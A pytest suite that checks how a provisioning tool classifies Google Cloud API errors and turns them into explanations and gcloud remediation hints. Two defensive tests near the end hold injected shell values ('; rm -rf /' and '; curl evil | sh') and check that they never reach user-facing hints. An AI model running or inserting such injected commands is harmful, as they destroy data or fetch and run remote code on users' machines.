"""What a person reads for each error text of Google Cloud, and how far each error reaches."""

from __future__ import annotations

import json
import re
from collections.abc import Mapping
from typing import NamedTuple

import pytest

from provision.adapters.google.error_patterns import ERROR_PATTERNS
from provision.adapters.google.errors import CloudError, CloudFailure, FailureScope, classify_error
from provision.adapters.google.service_errors import (
    RPC_CODES,
    ServiceError,
    parse_http_error,
    parse_operation_error,
)


class Met(NamedTuple):
    """An error as it was met, and what is made of it."""

    fault: ServiceError
    width: FailureScope
    kind: str
    what: str
    hint: str
    zones: tuple[str, ...] = ()
    repeats: int | None = 0


def lro(code: int, message: str, **more: str) -> ServiceError:
    return ServiceError(code, message, operation=True, **more)  # type: ignore[arg-type]


def rest(status: int, message: str, reason: str = "", **metadata: str) -> ServiceError:
    error: dict[str, object] = {"code": status, "message": message}
    if reason:
        error["details"] = [
            {
                "@type": "type.googleapis.com/google.rpc.ErrorInfo",
                "reason": reason,
                "domain": "googleapis.com",
                "metadata": metadata,
            }
        ]
    return parse_http_error(status, json.dumps({"error": error}).encode(), {})


STOCKOUT = (
    "The zone 'projects/my-project/zones/us-central1-a' does not have enough resources "
    "available to fulfill the request."
)
MET: Mapping[str, Met] = {
    "quota of a region, as PERMISSION_DENIED": Met(
        lro(7, "Quota 'NVIDIA_P4_GPUS' exceeded.  Limit: 1.0 in region us-central1."),
        FailureScope.REGION,
        "quota",
        "quota NVIDIA_P4_GPUS is used up in us-central1: the limit is 1",
        'gcloud compute regions describe us-central1 --project=my-project --format="yaml(quotas)"',
    ),
    "quota of all regions": Met(
        lro(8, "Quota 'GPUS_ALL_REGIONS' exceeded.  Limit: 1.0 globally."),
        FailureScope.GLOBAL,
        "quota",
        "quota GPUS_ALL_REGIONS is used up globally: the limit is 1",
        "gcloud compute project-info describe --project=my-project",
    ),
    "quota of a zone": Met(
        lro(8, "Quota 'LOCAL_SSD' exceeded.  Limit: 6.0 in zone us-east1-b."),
        FailureScope.ZONE,
        "quota",
        "is used up in us-east1-b",
        "console.cloud.google.com",
    ),
    "quota by its reason": Met(
        rest(403, "Not enough of it.", "QUOTA_EXCEEDED"),
        FailureScope.REGION,
        "quota",
        "quota METRIC is used up",
        "iam-admin/quotas",
    ),
    "stockout": Met(
        lro(8, STOCKOUT),
        FailureScope.ZONE,
        "capacity",
        "currently has no capacity for this machine",
        "list more zones",
    ),
    "stockout with a way out": Met(
        parse_operation_error(
            {
                "code": 14,
                "message": STOCKOUT,
                "details": [
                    {
                        "errorInfo": {
                            "domain": "compute.googleapis.com",
                            "reason": "resource_availability",
                            "metadatas": {
                                "vmType": "a2-highgpu-1g",
                                "zone": "us-central1-a",
                                "attachment": "",
                                "zonesAvailable": "us-central1-f,us-central1-c",
                            },
                        }
                    }
                ],
            }
        ),
        FailureScope.ZONE,
        "capacity",
        "currently has no capacity for this machine",
        "list more zones",
        ("us-central1-f", "us-central1-c"),
    ),
    "stockout by its code": Met(
        rest(503, "Out.", "ZONE_RESOURCE_POOL_EXHAUSTED_WITH_DETAILS"),
        FailureScope.ZONE,
        "capacity",
        "no capacity for this machine",
        "later",
    ),
    "bulk insert": Met(
        lro(10, "VM_MIN_COUNT_NOT_REACHED,ZONE_RESOURCE_POOL_EXHAUSTED"),
        FailureScope.ZONE,
        "capacity",
        "no capacity for this machine",
        "later",
    ),
    "insufficientCapacity": Met(
        rest(503, "insufficientCapacity"),
        FailureScope.ZONE,
        "capacity",
        "no capacity for this machine",
        "later",
    ),
    "preempted while creating": Met(
        lro(9, "UNSUPPORTED_OPERATION: instance was preempted"),
        FailureScope.ZONE,
        "capacity",
        "reclaimed the machine",
        "again",
    ),
    "too many operations": Met(
        lro(8, "RESOURCE_OPERATION_RATE_EXCEEDED: Operation rate exceeded for resource 'x'."),
        FailureScope.ZONE,
        "throttled",
        "does not accept more operations",
        "again",
    ),
    "no service account": Met(
        lro(
            5,
            "The resource 'One of [trainer@my-project.iam.gserviceaccount.com]' of type "
            "'serviceAccount' was not found.",
        ),
        FailureScope.FATAL,
        "account",
        "there is no service account trainer@my-project.iam.gserviceaccount.com",
        "gcloud iam service-accounts create trainer --project=my-project",
    ),
    "rate": Met(
        rest(403, "Rate Limit Exceeded", "rateLimitExceeded"),
        FailureScope.RETRY,
        "rate",
        "limits the rate of requests",
        "a few minutes",
        repeats=None,
    ),
    "rate of an API": Met(
        rest(
            429,
            "Quota exceeded for quota metric 'Write requests' and limit 'Write requests "
            "per minute' of service 'notebooks.googleapis.com'.",
        ),
        FailureScope.RETRY,
        "rate",
        "limits the rate of requests",
        "a few minutes",
        repeats=None,
    ),
    "act as": Met(
        rest(
            403,
            "me@example.com needs iam.serviceAccounts.ActAs (Service Account User) "
            "permission on VM Service Account "
            "projects/my-project/serviceAccounts/trainer@my-project.iam.gserviceaccount.com, "
            "permission denied",
        ),
        FailureScope.FATAL,
        "act-as",
        "you are not allowed to use the instance's service account",
        "add-iam-policy-binding trainer@my-project.iam.gserviceaccount.com "
        "--project=my-project --role=roles/iam.serviceAccountUser",
    ),
    "external address": Met(
        rest(
            412,
            "Constraint constraints/compute.vmExternalIpAccess violated for project 123. "
            "Add instance projects/p/zones/z/instances/i to the constraint",
        ),
        FailureScope.FATAL,
        "policy",
        "forbids this: compute.vmExternalIpAccess",
        "`public_ip: false`",
    ),
    "shielded": Met(
        lro(
            9,
            "constraints/compute.requireShieldedVm violated for project 123. Secure Boot "
            "is not enabled in the 'shielded_instance_config' field.",
        ),
        FailureScope.FATAL,
        "policy",
        "compute.requireShieldedVm",
        "`shielded: {secure_boot: true}`",
    ),
    "trusted images": Met(
        lro(
            9,
            "Constraint constraints/compute.trustedImageProjects violated for project my-project.",
        ),
        FailureScope.FATAL,
        "policy",
        "trustedImageProjects",
        "cloud-notebooks-managed",
    ),
    "another policy": Met(
        lro(9, "Constraint constraints/compute.vmCanIpForward violated for project 1."),
        FailureScope.FATAL,
        "policy",
        "compute.vmCanIpForward",
        "describe compute.vmCanIpForward",
    ),
    "protected metadata": Met(
        lro(
            3,
            'failed updating GCE instance: metadata key "title" is protected by Workbench '
            "Notebooks, invalid argument",
        ),
        FailureScope.FATAL,
        "protected",
        "metadata key title is reserved by Workbench",
        "remove title from the target's `metadata`",
    ),
    "queue": Met(
        rest(409, "unable to queue the operation"),
        FailureScope.RETRY,
        "queue",
        "another operation on the instance is still running",
        "again",
        repeats=None,
    ),
    "exists, gRPC": Met(
        ServiceError(6, "Resource already exists"),
        FailureScope.FATAL,
        "exists",
        "with this name already exists",
        "instances list",
    ),
    "exists, REST": Met(
        rest(409, "Resource 'projects/p/locations/z/instances/i' already exists"),
        FailureScope.FATAL,
        "exists",
        "with this name already exists",
        "instances list",
    ),
    "tenant": Met(
        lro(10, "Failed to perform tenant project creation"),
        FailureScope.RETRY,
        "tenant",
        "could not prepare",
        "support",
        repeats=1,
    ),
    "internal": Met(
        lro(13, "an internal error has occurred"),
        FailureScope.RETRY,
        "internal",
        "inside Google Cloud",
        "the service account, the subnet",
        repeats=1,
    ),
    "proxy": Met(
        lro(9, "Proxy Registration failed. Unable to get Service Account from VM"),
        FailureScope.FATAL,
        "proxy",
        "never becomes ACTIVE",
        "Private Google Access",
    ),
    "role": Met(
        rest(
            403,
            "Permission 'notebooks.instances.create' denied on "
            "'projects/my-project/locations/us-central1-a'",
            "IAM_PERMISSION_DENIED",
            permission="notebooks.instances.create",
        ),
        FailureScope.FATAL,
        "permission",
        "a permission is missing: notebooks.instances.create",
        "gcloud projects add-iam-policy-binding my-project --role=roles/notebooks.admin "
        "--member=user:YOU",
    ),
    "role to look": Met(
        rest(
            403,
            "Required 'compute.instances.get' permission for "
            "'projects/my-project/zones/us-central1-a/instances/i'",
        ),
        FailureScope.FATAL,
        "permission",
        "compute.instances.get",
        "--role=roles/compute.viewer",
    ),
    "role on a bucket": Met(
        rest(
            403,
            "me@example.com does not have storage.objects.create access to the Google "
            "Cloud Storage object.",
        ),
        FailureScope.FATAL,
        "permission",
        "storage.objects.create",
        "gcloud storage buckets add-iam-policy-binding gs://BUCKET "
        "--role=roles/storage.objectAdmin",
    ),
    "secret": Met(
        rest(403, "Permission 'secretmanager.versions.access' denied for resource"),
        FailureScope.FATAL,
        "permission",
        "secretmanager",
        "roles/secretmanager.secretAccessor",
    ),
    "Shared VPC": Met(
        lro(
            7,
            "Required 'compute.subnetworks.use' permission for "
            "'projects/host-project/regions/us-central1/subnetworks/net'",
        ),
        FailureScope.FATAL,
        "permission",
        "compute.subnetworks.use",
        "gcloud projects add-iam-policy-binding host-project "
        "--role=roles/compute.networkUser "
        "--member=serviceAccount:service-NUMBER@gcp-sa-notebooks",
    ),
    "API disabled": Met(
        rest(
            403,
            "Notebooks API has not been used in project 123 before or it is disabled.",
            "SERVICE_DISABLED",
            service="notebooks.googleapis.com",
            consumer="projects/123",
        ),
        FailureScope.FATAL,
        "api-disabled",
        "not enabled in project my-project: notebooks.googleapis.com",
        "gcloud services enable notebooks.googleapis.com --project=my-project",
    ),
    "API disabled, by its text": Met(
        rest(
            403,
            "Compute Engine API has not been used in project 123 before or it is disabled. "
            "Enable it by visiting "
            "https://console.developers.google.com/apis/api/compute.googleapis.com/overview"
            "?project=123 "
            "then retry.",
        ),
        FailureScope.FATAL,
        "api-disabled",
        "compute.googleapis.com",
        "gcloud services enable compute.googleapis.com",
    ),
    "quota project": Met(
        rest(
            403,
            "Your application is authenticating by using local Application Default Credentials. "
            "The notebooks.googleapis.com API requires a quota project, which is not set "
            "by default.",
            "SERVICE_DISABLED",
        ),
        FailureScope.FATAL,
        "quota-project",
        "no quota project",
        "gcloud auth application-default set-quota-project my-project",
    ),
    "scopes": Met(
        rest(
            403,
            "Request had insufficient authentication scopes.",
            "ACCESS_TOKEN_SCOPE_INSUFFICIENT",
        ),
        FailureScope.FATAL,
        "scopes",
        "lack the scope",
        "--scopes=https://www.googleapis.com/auth/cloud-platform",
    ),
    "token": Met(
        rest(401, "Request had invalid authentication credentials."),
        FailureScope.FATAL,
        "credentials",
        "does not accept",
        "gcloud auth application-default login",
    ),
    "billing": Met(
        rest(403, "This API method requires billing to be enabled.", "BILLING_DISABLED"),
        FailureScope.FATAL,
        "billing",
        "no billing account",
        "linkedaccount?project=my-project",
    ),
    "subnet": Met(
        lro(5, "SUBNET_NOT_FOUND_FOR_VPC"),
        FailureScope.REGION,
        "subnet",
        "the subnet does not exist",
        "subnets list",
    ),
    "network": Met(
        lro(5, "VPC_NOT_FOUND"),
        FailureScope.GLOBAL,
        "network",
        "the network does not exist",
        "networks list",
    ),
    "disk": Met(
        lro(3, "Requested disk size cannot be smaller than the image size (100 GB)"),
        FailureScope.FATAL,
        "disk",
        "smaller than its image",
        "boot_disk",
    ),
    "image": Met(
        lro(5, "The resource 'projects/cloud-notebooks-managed/global/images/nope' was not found"),
        FailureScope.FATAL,
        "image",
        "no such image: nope",
        "images list",
    ),
    "machine not in the zone": Met(
        lro(3, "Machine type with name 'a2-highgpu-1g' does not exist in zone 'us-east4-c'."),
        FailureScope.ZONE,
        "not-here",
        "does not have",
        "accelerator-types",
    ),
    "GPU not in the zone": Met(
        lro(5, "The resource 'projects/p/zones/z/acceleratorTypes/nvidia-l4' was not found"),
        FailureScope.ZONE,
        "not-here",
        "does not have",
        "accelerator-types",
    ),
    "unauthorized or not found": Met(
        lro(5, "Resource is not found or access is unauthorized."),
        FailureScope.ZONE,
        "not-here",
        "does not have",
        "accelerator-types",
    ),
    "policy update": Met(
        rest(403, "Policy update access denied."),
        FailureScope.FATAL,
        "permission",
        "a permission is missing",
        "notebooks.admin",
    ),
    "500": Met(
        rest(500, "Internal error"),
        FailureScope.RETRY,
        "unavailable",
        "failed to answer",
        "again",
        repeats=None,
    ),
    "503": Met(
        rest(503, "The service is currently unavailable."),
        FailureScope.RETRY,
        "unavailable",
        "failed to answer",
        "again",
        repeats=None,
    ),
    "a proxy's page": Met(
        parse_http_error(502, b"<html><h1>Bad Gateway</h1></html>", {}),
        FailureScope.RETRY,
        "unavailable",
        "failed to answer",
        "again",
        repeats=None,
    ),
    "no way there": Met(
        ServiceError(
            14,
            "failed to connect to all addresses; last error: UNKNOWN: ipv4:127.0.0.1:1: "
            "connection refused",
        ),
        FailureScope.RETRY,
        "unreachable",
        "cannot be reached",
        "https_proxy",
        repeats=None,
    ),
    "no such method": Met(
        rest(501, "unimplemented"),
        FailureScope.FATAL,
        "refused",
        "rejected the request as invalid",
        "change the target field",
    ),
    "old kind of notebook": Met(
        rest(
            400,
            "Vertex AI Workbench user-managed notebooks have been deprecated and new "
            "instances cannot be created",
        ),
        FailureScope.FATAL,
        "refused",
        "rejected the request as invalid",
        "change the target field",
    ),
    "another generation": Met(
        rest(
            412, "At least one of the pre-conditions you specified did not hold.", "conditionNotMet"
        ),
        FailureScope.FATAL,
        "changed",
        "someone else",
        "again",
    ),
    "no such project": Met(
        rest(404, "Project 'nope' not found or deleted."),
        FailureScope.GLOBAL,
        "project",
        "no project my-project",
        "gcloud projects list",
    ),
    "unheard of": Met(
        lro(2000, "the moon is in the way"),
        FailureScope.ZONE,
        "unknown",
        "an unknown error",
        "issue",
    ),
}


@pytest.mark.parametrize("name", MET)
def test_what_a_person_reads(name: str) -> None:
    met = MET[name]
    failure = classify_error(met.fault, "my-project")
    assert (failure.scope, failure.kind, failure.zones_available, failure.max_retries) == (
        met.width,
        met.kind,
        met.zones,
        met.repeats,
    )
    assert met.what in failure.what
    assert met.hint in failure.hint
    assert met.fault.message in failure.why
    assert not re.search(
        r"[{}]",
        failure.what + failure.hint.replace("{secure_boot: true}", "").replace("{size: ...}", ""),
    )


def test_every_row_is_met() -> None:
    assert {case.kind for case in ERROR_PATTERNS} - {met.kind for met in MET.values()} <= {
        "cancelled",
        "conflict",
        "not-found",
        "aborted",
    }


@pytest.mark.parametrize(
    ("fault", "kind"),
    [
        (lro(1, "x"), "cancelled"),
        (rest(409, "x"), "conflict"),
        (rest(404, "x"), "not-found"),
        (lro(10, "x"), "aborted"),
        (rest(403, "x"), "refused"),
    ],
)
def test_what_is_left_is_judged_by_its_code(fault: ServiceError, kind: str) -> None:
    assert classify_error(fault).kind == kind


@pytest.mark.parametrize("code", RPC_CODES)
@pytest.mark.parametrize("operation", [True, False])
def test_every_code_is_judged(code: int, operation: bool) -> None:
    failure = classify_error(ServiceError(code, "nothing in particular", operation=operation))
    assert failure.what
    assert failure.hint
    assert failure.kind != "unknown" or code in (2, 15)


def test_the_text_of_a_service_is_made_harmless() -> None:
    failure = classify_error(
        ServiceError(
            3,
            "\x1b[2J Bearer ya29.abcdefghijklmnopqrstuvwxyz\u202e",
            metadata={"zonesAvailable": "us-central1-f; rm -rf /"},
            reason="a\x1b[b",
        )
    )
    assert "\x1b" not in failure.why
    assert "\u202e" not in failure.why
    assert "ya29" not in failure.why
    assert failure.zones_available == ()


def test_a_word_of_the_service_never_becomes_a_command() -> None:
    failure = classify_error(
        ServiceError(
            7,
            "x",
            reason="SERVICE_DISABLED",
            metadata={"service": "a.googleapis.com; curl evil | sh"},
        ),
        "my-project",
    )
    assert "evil" not in failure.hint + failure.what
    assert "gcloud services enable SERVICE --project=my-project" in failure.hint


def test_how_long_to_wait_is_read() -> None:
    assert parse_http_error(429, b"{}", {"Retry-After": "7"}).retry_after_s == 7
    assert (
        parse_http_error(429, b"{}", {"Retry-After": "Wed, 21 Oct 2026 07:28:00 GMT"}).retry_after_s
        is None
    )
    body = json.dumps(
        {
            "error": {
                "code": 429,
                "details": [
                    {"@type": "type.googleapis.com/google.rpc.RetryInfo", "retryDelay": "3.5s"}
                ],
            }
        }
    )
    assert parse_http_error(429, body.encode(), {}).retry_after_s == 3.5


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"[]",
        b"null",
        b'{"error": 5}',
        b'{"error": "x"}',
        b'{"error": {"details": 4, "errors": "x"}}',
        b"[" * 100_000,
        b"\xff\xfe",
    ],
)
def test_nonsense_is_read_too(body: bytes) -> None:
    assert classify_error(parse_http_error(500, body, {})).scope is FailureScope.RETRY


def test_an_error_carries_its_failure() -> None:
    failure = CloudFailure(FailureScope.ZONE, "capacity", "what", "why", "hint")
    error = CloudError(failure)
    assert (error.what, error.why, error.hint, error.failure, error.exit_code) == (
        "what",
        "why",
        "hint",
        failure,
        2,
    )
